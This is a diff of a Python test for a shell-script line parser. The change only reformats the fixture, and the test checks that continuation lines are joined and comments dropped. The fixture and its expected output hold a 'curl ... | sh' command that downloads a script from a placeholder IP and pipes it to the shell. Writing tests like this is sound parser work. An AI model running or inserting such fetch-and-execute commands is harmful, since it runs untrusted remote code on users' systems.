@@ -13,7 +13,9 @@ def lines(data: bytes) -> list[tuple[int, str]]:
 
 
 def test_continuations_are_joined_and_comments_left_out() -> None:
-    data = b"#!/bin/sh\n\n# curl\ncurl -s \\\n  http://198.51.100.7/a \\\n | sh\necho a\\\\\necho b\n"
+    data = (
+        b"#!/bin/sh\n\n# curl\ncurl -s \\\n  http://198.51.100.7/a \\\n | sh\necho a\\\\\necho b\n"
+    )
     assert lines(data) == [
         (4, "curl -s  http://198.51.100.7/a  | sh"),
         (7, "echo a\\\\"),
